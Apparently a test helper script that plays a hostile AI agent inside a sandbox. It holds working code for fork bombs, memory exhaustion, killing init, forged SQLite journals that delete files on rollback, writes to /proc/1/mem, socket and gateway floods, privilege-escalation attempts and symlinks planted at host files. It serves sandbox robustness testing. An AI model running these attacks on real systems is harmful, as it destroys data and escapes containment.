"""What a hostile agent does from inside its sandbox; run there by the system's Python, alone.

`python3 hostile_attacks.py NAME TOKEN [WORDS...]`: each attack is made once per token, so that the
retried message finds it done and is answered, and not before it is let go. Here only the sandbox's own
paths exist.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import os
import signal
import socket
import sqlite3
import struct
import sys
import threading
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

OUT = Path("/salver/out")
OUTBOUND = OUT / "outbound.db"
FRESH = OUT / "fresh"
"""What is to be put into the place of outbound.db."""
JOURNAL = OUT / "outbound.db-journal"
INBOUND = Path("/salver/in/inbound.db")
LAUNCH = Path("/salver/in/launch.json")
HOME = Path("/salver/home")
WORK = Path("/workspace")
LINE = "/salver/line/line"
GATEWAY = "/salver/line/gateway"
HAUNTED = 60.0
"""Seconds that a process stays behind which nobody ends."""

Attack = Callable[..., object]


def main() -> None:
    name, token, *words = sys.argv[1:]
    begun, made = WORK / f".begun-{token}", WORK / f".made-{token}"
    if begun.exists():
        print("done before")  # noqa: T201 - what the agent's shell call shows
        return
    begun.touch()
    while not (WORK / f".go-{token}").exists():
        time.sleep(0.01)
    ATTACKS[name](*words)
    made.touch()
    print("done")  # noqa: T201 what it prints is read by the test


# outbound.db becomes something else


def fifo() -> None:
    os.mkfifo(FRESH)
    _exchange()


def link(target: str) -> None:
    FRESH.symlink_to(target)
    _exchange()


def hard_link() -> None:
    (OUT / "second name").hardlink_to(OUTBOUND)


def folder() -> None:
    FRESH.mkdir()
    _exchange()


def gone() -> None:
    OUTBOUND.unlink()


def other_epoch() -> None:
    _copied_with("UPDATE owner SET epoch = epoch + 1")


def other_file() -> None:
    """The same rows in another file: even a true copy is not the file that was given."""
    _copied_with("UPDATE owner SET epoch = epoch")


def future_owner() -> None:
    _write("UPDATE owner SET generation = generation + 5")


def garbage() -> None:
    FRESH.write_bytes(os.urandom(100_000))
    _exchange()


def overwritten() -> None:
    """Garbage in place: the same file, and a header that still looks right."""
    with OUTBOUND.open("r+b") as file:
        file.seek(100)
        file.write(os.urandom(OUTBOUND.stat().st_size - 100))


def empty() -> None:
    os.truncate(OUTBOUND, 0)


def sparse() -> None:
    os.truncate(OUTBOUND, 5 * 2**30)


def swapped() -> None:
    """Between two names, faster than anyone can look: a regular file one moment, a FIFO the next."""
    os.mkfifo(OUT / "pipe")
    with sqlite3.connect(OUTBOUND) as conn:
        conn.execute("VACUUM INTO '/salver/out/file'")
    _haunt(_swap)


def _swap() -> None:
    until = time.monotonic() + HAUNTED
    turn = 0
    while time.monotonic() < until:
        turn += 1
        with contextlib.suppress(OSError):
            source = OUT / ("file", "pipe")[turn % 2]
            spare = OUT / f"spare-{turn}"
            os.link(source, spare)
            spare.rename(OUTBOUND)


def leased() -> None:
    """Whoever opens a file under a lease waits for the kernel, 45 s on most systems."""
    _haunt(lambda: _lease(OUTBOUND, os.O_RDWR, fcntl.F_WRLCK))


def leased_inbound() -> None:
    _haunt(lambda: _lease(INBOUND, os.O_RDONLY, fcntl.F_RDLCK))


def _lease(path: Path, flags: int, kind: int) -> None:
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    until = time.monotonic() + HAUNTED
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            held = os.open(path, flags)
            fcntl.fcntl(held, fcntl.F_SETLEASE, kind)
        time.sleep(0.001)


# A journal beside it


def forged_journal(victim: str) -> None:
    """A hot journal that names a super-journal: rolling it back deletes that file [tried]."""
    _forge(victim)
    _die()


def forged_live_journal(victim: str) -> None:
    """The same while the runner lives on."""
    _forge(victim)


def frozen_journal(victim: str) -> None:
    """The same, and whoever might roll it back stands still."""
    _forge(victim)
    freeze_and_chatter()


def journal_to_a_pipe() -> None:
    """Rolling it back opens a FIFO, which nobody ever writes to."""
    trap = HOME / "trap"
    os.mkfifo(trap)
    _forge(str(trap))
    _die()


def journal_for_ever() -> None:
    """A journal that cannot be taken away: its folder is not writable."""
    _forge("")
    OUT.chmod(0o555)


def closed_journal() -> None:
    """A journal that its owner himself cannot roll back: he has closed the file to himself."""
    _forge("")
    OUTBOUND.chmod(0)
    _die()


def journal_fifo() -> None:
    os.mkfifo(JOURNAL)


def journal_link(target: str) -> None:
    JOURNAL.symlink_to(target)


def journal_folder() -> None:
    JOURNAL.mkdir()


def wal_beside() -> None:
    OUTBOUND.with_name("outbound.db-wal").write_bytes(b"")


def shm_beside() -> None:
    OUTBOUND.with_name("outbound.db-shm").symlink_to("/etc/passwd")


def wal_header() -> None:
    _header(b"\2\2")


def wal_header_and_death() -> None:
    _header(b"\2\2")
    _die()


# Another schema, other values


def trigger() -> None:
    _write("CREATE TRIGGER t AFTER INSERT ON log BEGIN SELECT 1; END")


def endless_view() -> None:
    """A view in the place of the log, which has no end."""
    _ours_no_more(
        "DROP TABLE log",
        "CREATE VIEW log (seq, turn, attempt, kind, message, at, body) AS WITH RECURSIVE n (x) AS"
        " (SELECT 1 UNION ALL SELECT x + 1 FROM n)"
        " SELECT x, 1, 1, 'tool', NULL, '', '{}' FROM n WHERE x < 0",
    )


def generated_column() -> None:
    _ours_no_more("ALTER TABLE log ADD COLUMN more TEXT AS (seq + 1)")


def other_columns() -> None:
    _ours_no_more("DROP TABLE log", "CREATE TABLE log (seq INTEGER PRIMARY KEY, body TEXT)")


def loud_schema() -> None:
    """An error message of a megabyte, made to be told to people."""
    name = "\x1b[31mCLICK HERE" + "x" * 1_000_000
    with _lawless() as conn:
        conn.execute(
            "INSERT INTO sqlite_schema VALUES ('view', ?1, ?1, 0, 'CREATE VIEW x AS nonsense (')",
            (name,),
        )


def huge_schema() -> None:
    """Tables that take longer to be understood than anyone has patience."""
    columns = ", ".join(f"c{column} TEXT DEFAULT '{'x' * 50}'" for column in range(1_500))
    with _lawless() as conn:
        for number in range(2_000):
            conn.execute(
                "INSERT INTO sqlite_schema VALUES ('table', ?1, ?1, 2, 'CREATE TABLE ' || ?1 || ' (' || ?2 || ')')",
                (f"t{number}", columns),
            )


def row(values: str) -> None:
    """Rows as given: lists of seq, turn, kind, message, body; null takes what an honest runner would."""
    with _lawless() as conn:
        for seq, turn, kind, message, body in json.loads(values):
            text = body if isinstance(body, str) else json.dumps(body)
            _insert(conn, seq, turn, kind, message, text)


def sent_files(host: str) -> None:
    """Everything but plain files, each sent as if it were one, and one that is."""
    folder = OUT / "files" / PLACE
    folder.mkdir(parents=True)
    os.mkfifo(folder / "fifo")
    (folder / "link").symlink_to(host)
    (folder / "original").write_text("plain", encoding="utf-8")
    (folder / "hard-link").hardlink_to(folder / "original")
    (folder / "folder").mkdir()
    (folder / "sparse").touch()
    os.truncate(folder / "sparse", 50 * 2**20)
    (folder / "plain").write_text("plain", encoding="utf-8")
    (folder / "grows").touch()
    (OUT / "files" / ("e" * 32)).symlink_to(Path(host).parent)
    _haunt(lambda: _grow(folder / "grows"))
    _haunt(lambda: _come_and_go(OUT / "files" / ("d" * 32), Path(host).parent))
    names = ["fifo", "link", "hard-link", "folder", "sparse", "grows", "../../outbound.db", host]
    tricks = [(PLACE, name) for name in names]
    places = ["../..", PLACE + "0", PLACE.upper(), "", str(Path(host).parent), "e" * 32, "d" * 32]
    tricks += [(place, Path(host).name) for place in places]
    with _lawless() as conn:
        for size in (0, 5, 50 * 2**20):
            _send(conn, [(place, name, size) for place, name in tricks])
        for first in range(0, 400, 20):  # one of them is the size of what lies there
            _send(conn, [("d" * 32, Path(host).name, first + more) for more in range(20)])
        _send(conn, [(PLACE, "gone", 1)] * 10_000)
        _send(conn, [(PLACE, "plain", 5)])


PLACE = "ab" * 16


def _send(conn: sqlite3.Connection, files: Sequence[tuple[str, str, int]]) -> None:
    listed = [{"place": place, "name": name, "size": size} for place, name, size in files]
    _insert(conn, None, 1, "send", None, json.dumps({"text": "look", "files": listed}))


def _grow(path: Path) -> None:
    with path.open("ab", buffering=0) as file:
        for _ in range(2**20):
            file.write(b"x")
    time.sleep(HAUNTED)


def _come_and_go(place: Path, other: Path) -> None:
    until = time.monotonic() + HAUNTED
    while time.monotonic() < until:
        place.mkdir()
        place.rmdir()
        place.symlink_to(other)
        place.unlink()


def typeless(column: str, expression: str) -> None:
    """A value that no column of ours can hold, behind the back of the schema's own rules."""
    with _lawless() as conn:
        (sql,) = conn.execute("SELECT sql FROM sqlite_schema WHERE name = 'log'").fetchone()
        loose = "CREATE TABLE log (seq INTEGER PRIMARY KEY, turn, attempt, kind, message, at, body)"
        conn.execute("UPDATE sqlite_schema SET sql = ? WHERE name = 'log'", (loose,))
        # Read anew within the transaction: nobody may see the looser table.
        conn.execute("PRAGMA writable_schema=RESET")
        conn.execute("PRAGMA writable_schema=ON")
        _insert(conn, None, 1, "claim", 1, "{}")
        last = "(SELECT max(seq) FROM log)"
        conn.execute(f"UPDATE log SET {column} = {expression} WHERE seq = {last}")
        conn.execute("UPDATE sqlite_schema SET sql = ? WHERE name = 'log'", (sql,))


def large_value() -> None:
    with _lawless() as conn:
        _insert(conn, None, 1, "tool", None, json.dumps({"x": "y" * 17_000_000}))


def many_rows(kind: str) -> None:
    with _lawless() as conn:
        for number in range(10_000):
            _insert(conn, None, 1, kind, None, json.dumps({"text": f"{number}"}))


def rows_without_end(what: str) -> None:
    """As many as it can, for as long as it lives."""
    _haunt(lambda: _pour(what))


def _pour(what: str) -> None:
    kind, times, body = {
        "small": ("tool", 2_000, "{}"),
        "large": ("continuation", 1, '{"provider":"demo","messages":["' + "x" * 15_000_000 + '"]}'),
        "costly": ("continuation", 1, '{"provider":"demo","messages":[' + "{}," * 90_000 + "{}]}"),
    }[what]
    until = time.monotonic() + HAUNTED
    while time.monotonic() < until:
        with contextlib.suppress(sqlite3.Error), _lawless() as conn:
            for _ in range(times):
                _insert(conn, None, 1, kind, None, body)
        time.sleep(0.01)


def wide_rows() -> None:
    """Each character takes twelve bytes in an answer that spells it out."""
    with _lawless() as conn:
        for _ in range(4):
            _insert(
                conn, None, 1, "tool", None, json.dumps({"x": "😀" * 3_900_000}, ensure_ascii=False)
            )


def bomb(kind: str) -> None:
    """JSON that is small to write and large to read."""
    body = {
        "deep": '{"text":' + "[" * 100_000 + "]" * 100_000 + "}",
        "large-number": '{"text":' + "9" * 5_000_000 + "}",
        "wide": '{"provider":"demo","messages":[' + "{}," * 4_000_000 + "{}]}",
        "half-a-character": '{"text":"\\ud800"}',
        "no-object": "[]",
    }[kind]
    order = "continuation" if '"messages"' in body else "send"
    with _lawless() as conn:
        _insert(conn, None, 1, order, None, body)


def long_text() -> None:
    with _lawless() as conn:
        _insert(conn, None, 1, "send", None, json.dumps({"text": "long " * 1_000_000}))


def many_long_texts() -> None:
    with _lawless() as conn:
        for _ in range(200):
            _insert(conn, None, 1, "send", None, json.dumps({"text": "long " * 200_000}))


def long_memory() -> None:
    """What a turn keeps is handed to the next file's runner, all of it."""
    body = '{"provider":"demo","messages":[{"role":"x","text":"' + "x" * 10_000_000 + '"}]}'
    with _lawless() as conn:
        for _ in range(30):
            _insert(conn, None, 1, "continuation", None, body)


def rows_go_back() -> None:
    """The runner's next rows get numbers that were read before."""
    _write("DELETE FROM log")


def rows_vanish() -> None:
    _write("DELETE FROM log")
    _die()


# Locks, and processes that stay behind


def exclusive_lock() -> None:
    _haunt(_lock_outbound)


def _lock_outbound() -> None:
    with contextlib.closing(sqlite3.connect(OUTBOUND, isolation_level=None)) as conn:
        conn.execute("BEGIN EXCLUSIVE")
        time.sleep(HAUNTED)


def frozen_lock() -> None:
    """The same with a runner that stands still, so that it doesn't stumble over the lock itself."""
    exclusive_lock()
    freeze_and_chatter()


def read_transaction() -> None:
    _haunt(_read_inbound)


def _read_inbound() -> None:
    conn = sqlite3.connect(f"file:{INBOUND}?mode=ro", uri=True, isolation_level=None)
    conn.execute("BEGIN")
    conn.execute("SELECT count(*) FROM messages").fetchone()
    time.sleep(HAUNTED)


def freeze() -> None:
    """The runner stands still, a little after this call has ended or not."""
    os.kill(_runner(), signal.SIGSTOP)


def freeze_when_idle() -> None:
    runner = _runner()

    def later() -> None:
        time.sleep(0.3)
        os.kill(runner, signal.SIGSTOP)
        (WORK / "frozen").touch()
        time.sleep(HAUNTED)

    _haunt(later)


def freeze_and_chatter() -> None:
    """The runner stands still, and somebody else speaks in its place as if there were progress."""
    generation = json.loads(LAUNCH.read_text(encoding="utf-8"))["generation"]
    runner = _runner()

    def chatter() -> None:
        with _dialled(LINE) as line:
            line.sendall(_frame(frame="hello", generation=generation, protocol=1))
            until = time.monotonic() + HAUNTED
            while time.monotonic() < until:
                with contextlib.suppress(OSError):
                    line.sendall(_frame(frame="live", turn=1, kind="text", text=".", seconds=1e300))
                time.sleep(0.1)

    _haunt(chatter)
    os.kill(runner, signal.SIGSTOP)


def end_everything() -> None:
    """Whatever can be killed from inside, its own init among them."""
    with contextlib.suppress(OSError):
        os.kill(1, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)


def fork_bomb() -> None:
    with contextlib.suppress(OSError):
        while True:
            if os.fork() == 0:
                time.sleep(HAUNTED)
                os._exit(0)


def fork_bomb_that_burns() -> None:
    _haunt(_burn)


def _burn() -> None:
    with contextlib.suppress(OSError):
        while os.fork():
            pass
    until = time.monotonic() + HAUNTED
    while time.monotonic() < until:
        pass


def memory_hog() -> None:
    hoard: list[bytes] = []
    while True:
        hoard.append(b"x" * 10_000_000)


def memory_hog_of_many() -> None:
    """Together they take more than the sandbox may, none of them more than a process may."""
    for _ in range(8):
        if os.fork() == 0:
            hoard = b"x" * 60_000_000
            time.sleep(2)
            os._exit(len(hoard) % 2)
    time.sleep(2)


def forged_label(session: str, generation: str, log: str) -> None:
    """The init of a sandbox carries its label in its own memory, which its own user may write to."""
    command = Path("/proc/1/cmdline").read_bytes().split(b"\0")
    label = next(word for word in command if word.startswith(b"salver-sandbox:"))
    fields = json.loads(label.partition(b":")[2])
    fields.update(
        session=session, generation=int(generation), log=log, folders=[], disk=2**40, memory=2**40
    )
    forged = b"salver-sandbox:" + json.dumps(fields, separators=(",", ":")).encode()
    if len(forged) > len(label):
        raise ValueError("the forged label is too long")
    # JSON may be followed by blanks.
    forged = forged.ljust(len(label))
    stat = Path("/proc/1/stat").read_text(encoding="utf-8").rpartition(")")[2].split()
    start, end = int(stat[45]), int(stat[46])
    with Path("/proc/1/mem").open("r+b", buffering=0) as memory:
        memory.seek(start)
        words = memory.read(end - start)
        memory.seek(start + words.index(label))
        memory.write(forged)
    assert forged in Path("/proc/1/cmdline").read_bytes()


# Floods


def flood_line(what: str) -> None:
    _haunt(lambda: _flood_line(what))


def _flood_line(what: str) -> None:
    generation = json.loads(LAUNCH.read_text(encoding="utf-8"))["generation"]
    hello = _frame(frame="hello", generation=generation, protocol=1)
    piece = {
        "rings": _frame(frame="ring") * 1000,
        "greetings": hello * 1000,
        "live": _frame(frame="live", turn=1, kind="text", text="x" * 1000, seconds=1) * 100,
        "long-live": _frame(frame="live", turn=99, kind="output", text="x" * 500_000, seconds=1),
        "lists": b'{"frame":"live","x":[' + b"[]," * 170_000 + b"[]]}\n",
        "too-long": b"x" * 2_000_000,
        "deep": b"[" * 100_000 + b"\n",
        "garbage": os.urandom(5000) + b"\n",
        "half": _frame(frame="live", turn=1, kind="text", text="\ud800", seconds=1),
        "numbers": b'{"frame":"live","turn":1,"kind":"text","text":"","seconds":1'
        + b"0" * 4000
        + b"}\n",
        "nothing": b"",
    }[what]
    until = time.monotonic() + HAUNTED

    def pour() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError), _dialled(LINE) as line:
                line.sendall(hello)
                while piece:
                    line.sendall(piece)

    for _ in range(3):
        threading.Thread(target=pour, daemon=True).start()
    time.sleep(HAUNTED)


def many_connections() -> None:
    """A hundred at once, held; nothing is said."""
    _haunt(lambda: _dial_many(LINE))


def _dial_many(path: str) -> None:
    held: list[socket.socket] = []
    for _ in range(100):
        with contextlib.suppress(OSError):
            dialled = socket.socket(socket.AF_UNIX)
            dialled.settimeout(0.5)
            dialled.connect(path)
            held.append(dialled)
    time.sleep(HAUNTED)


def flood_gateway(what: str) -> None:
    _haunt(lambda: _flood_gateway(what))


def _flood_gateway(what: str) -> None:
    token = json.loads(LAUNCH.read_text(encoding="utf-8"))["token"]
    head = f"POST /demo/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n"
    piece = {
        "connections": b"",
        "strangers": b"GET /demo/models HTTP/1.1\r\nhost: x\r\n\r\n",
        "bodies": f"{head}content-length: 33000000\r\n\r\n".encode() + b"x" * 33_000_000,
        "objects": f"{head}content-length: 1600018\r\n\r\n".encode()
        + b'{"model":"m","messages":['
        + b'{"role": "user"},' * 94_117
        + b"{}]}",
        "endless": f"{head}transfer-encoding: chunked\r\n\r\n".encode() + b"1\r\nx\r\n" * 1_000_000,
        "heads": b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 100_000,
    }[what]
    until = time.monotonic() + HAUNTED

    def pour() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError), _dialled(GATEWAY) as gateway:
                gateway.sendall(piece)

    for _ in range(6):
        threading.Thread(target=pour, daemon=True).start()
    time.sleep(HAUNTED)


def storm() -> None:
    """Files come and go in out/ as fast as they can."""
    _haunt(_storm)


def _storm() -> None:
    until = time.monotonic() + HAUNTED
    number = 0
    while time.monotonic() < until:
        number += 1
        with contextlib.suppress(OSError):
            path = OUT / f"leaf-{number % 20_000}"
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            path.unlink()


# What fills up


def fill(place: str) -> None:
    """File after file, until there's no room or something stops it; what is full stays full."""
    number = 0
    while True:
        number += 1
        try:
            with Path(place, f"fill-{number}").open("wb", buffering=0) as file:
                while True:
                    file.write(b"x" * 1_000_000)
        except OSError as exc:
            if exc.errno == errno.ENOSPC:
                print(f"stopped: {exc.strerror}")  # noqa: T201 - for the test
                return


def fill_with_nothing() -> None:
    """Empty files: they take no block of the disk, but all the rest."""
    number = 0
    while True:
        number += 1
        (WORK / f"nothing-{number}").touch()


def deep_folders() -> None:
    """Folders in one another, deeper than anyone looks, and nothing that can be read."""
    before = Path.cwd()
    os.chdir(OUT)
    for _ in range(600):
        Path("deeper").mkdir()
        os.chdir("deeper")
    os.chdir(before)
    garbage()


def lock_out() -> None:
    """Its folders are its own, and it may close them to all."""
    for folder in (OUT, HOME, WORK):
        folder.chmod(0)


def hoard_watches() -> None:
    """What the kernel counts for each user, and all sandboxes have the same."""
    _haunt(_hoard_watches)


def _hoard_watches() -> None:
    libc = ctypes.CDLL(None)
    while libc.inotify_init1(0) >= 0:
        pass
    time.sleep(HAUNTED)


# What is not its own


def trespass(*paths: str) -> None:
    """Everything that must not work; what does is told."""
    worked: list[str] = []
    for what, act in _trespasses(paths).items():
        with contextlib.suppress(OSError, sqlite3.Error):
            act()
            worked.append(what)
    print(f"worked: {worked}")  # noqa: T201 - for the test


def _trespasses(paths: Sequence[str]) -> dict[str, Callable[[], object]]:
    acts: dict[str, Callable[[], object]] = {
        "write launch.json": lambda: os.open(LAUNCH, os.O_WRONLY),
        "write inbound.db": lambda: os.open(INBOUND, os.O_RDWR),
        "take launch.json away": LAUNCH.unlink,
        "put another inbound.db": lambda: INBOUND.rename(INBOUND.with_name("x")),
        "make a file in in/": lambda: (INBOUND.parent / "x").touch(),
        "open launch.json to all": lambda: LAUNCH.chmod(0o666),
        "link inbound.db out": lambda: os.link(INBOUND, OUT / "inbound"),
        "write into inbound.db": lambda: _execute(INBOUND, "DELETE FROM messages"),
        "take the line away": lambda: Path(LINE).unlink(),
        "make a socket in line/": lambda: socket.socket(socket.AF_UNIX).bind("/salver/line/x"),
        "write its own source": lambda: os.open(
            "/salver/source/salver_runner/loop.py", os.O_WRONLY
        ),
        "become root": lambda: os.setuid(0),
        "write the system": lambda: os.open("/usr/bin/x", os.O_CREAT | os.O_WRONLY),
        "mount": lambda: _called("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        "read the kernel's log": lambda: os.open("/dev/kmsg", os.O_RDONLY),
        "reach a host": lambda: socket.create_connection(("192.0.2.1", 80), timeout=0.2),
    }
    for path in paths:
        acts[f"read {path}"] = lambda path=path: Path(path).read_bytes()
        acts[f"write {path}"] = lambda path=path: os.open(path, os.O_WRONLY)
        acts[f"see {path}"] = lambda path=path: Path(path).stat()
        acts[f"reach {path} through init"] = lambda path=path: Path(
            f"/proc/1/root{path}"
        ).read_bytes()
        acts[f"dial {path}"] = lambda path=path: socket.socket(socket.AF_UNIX).connect(path)
    return acts


def plant(*targets: str) -> None:
    """Links of telling names at the host's files, wherever it may write."""
    names = (
        "transcript.md",
        ".failpoint",
        "AGENT.md",
        "outbound.db.new",
        "launch.json",
        "line",
        "files",
    )
    for place in (HOME, WORK, OUT):
        for name, target in zip(names, (*targets, *targets, *targets, *targets), strict=False):
            with contextlib.suppress(OSError):
                (place / name).unlink(missing_ok=True)
                (place / name).symlink_to(target)


# Made of:


def _exchange() -> None:
    """Put FRESH in the file's place in one step: who looks in between would find it gone."""
    here, both = -100, 2  # AT_FDCWD, RENAME_EXCHANGE
    _called("renameat2", here, bytes(FRESH), here, bytes(OUTBOUND), both)


def _runner() -> int:
    """The process that takes the turns: the one whose child's child we are."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and b"salver_runner" in (entry / "cmdline").read_bytes():
            command = (entry / "cmdline").read_bytes()
            if b"salver-sandbox:" not in command:
                return int(entry.name)
    raise LookupError("runner")


def _die() -> None:
    """End the runner, so that its sandbox must be buried."""
    os.kill(_runner(), signal.SIGKILL)


def _haunt(work: Callable[[], object]) -> None:
    """Go on with this in a process that outlives the call."""
    if os.fork() == 0:
        os.setsid()
        nothing = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(nothing, descriptor)
        try:
            work()
        finally:
            os._exit(0)
    time.sleep(0.1)


def _execute(path: Path, *statements: str) -> None:
    with contextlib.closing(sqlite3.connect(path, timeout=5)) as conn, conn:
        for statement in statements:
            conn.execute(statement)


def _write(*statements: str) -> None:
    _execute(OUTBOUND, *statements)


def _ours_no_more(*statements: str) -> None:
    with _lawless() as conn:
        for statement in statements:
            conn.execute(statement)


@contextlib.contextmanager
def _lawless() -> Any:
    """A transaction in which the file's own rules don't count."""
    conn = sqlite3.connect(OUTBOUND, timeout=5, isolation_level=None)
    conn.execute("PRAGMA writable_schema=ON")
    conn.execute("PRAGMA ignore_check_constraints=ON")
    conn.execute("PRAGMA synchronous=OFF")
    conn.execute("BEGIN IMMEDIATE")
    try:
        yield conn
        conn.execute("COMMIT")
    finally:
        conn.close()


def _insert(
    conn: sqlite3.Connection, seq: int | None, turn: int, kind: str, message: int | None, body: str
) -> None:
    conn.execute(
        "INSERT INTO log (seq, turn, attempt, kind, message, at, body) VALUES (?, ?, 1, ?, ?, '2030', ?)",
        (seq, turn, kind, message, body),
    )


def _copied_with(statement: str) -> None:
    copy = OUT / "copy"
    with contextlib.closing(sqlite3.connect(OUTBOUND)) as conn:
        conn.execute(f"VACUUM INTO '{copy}'")
    _execute(copy, statement)
    copy.rename(OUTBOUND)


def _header(versions: bytes) -> None:
    with OUTBOUND.open("r+b") as file:
        file.seek(18)
        file.write(versions)


def _forge(super_journal: str) -> None:
    """A journal that is hot, valid, and names a super-journal."""
    page, sector = 4096, 512
    size = OUTBOUND.stat().st_size // page
    original = OUTBOUND.read_bytes()[:page]
    nonce = 12345
    head = struct.pack(
        ">8sIIIII", b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 1, nonce, size, sector, page
    )
    total = nonce
    for offset in range(page - 200, 0, -200):
        total += original[offset]
    record = struct.pack(">I", 1) + original + struct.pack(">I", total & 0xFFFFFFFF)
    tail = b""
    if super_journal:
        name = super_journal.encode()
        # Signed, as C adds them up.
        checksum = sum(byte if byte < 128 else byte - 256 for byte in name) & 0xFFFFFFFF
        tail = (
            struct.pack(">I", 2**30 // page + 1)
            + name
            + struct.pack(">II", len(name), checksum)
            + b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
        )
    JOURNAL.write_bytes(head.ljust(sector, b"\0") + record + tail)


def _frame(**fields: object) -> bytes:
    return json.dumps(fields).encode() + b"\n"


@contextlib.contextmanager
def _dialled(path: str) -> Any:
    dialled = socket.socket(socket.AF_UNIX)
    try:
        dialled.connect(path)
        yield dialled
    finally:
        dialled.close()


def _called(name: str, *arguments: object) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if getattr(libc, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), name)


ATTACKS: dict[str, Attack] = {
    name.replace("_", "-"): found
    for name, found in list(globals().items())
    if callable(found)
    and getattr(found, "__module__", "") == __name__
    and name[0] != "_"
    and name != "main"
}

if __name__ == "__main__":
    main()
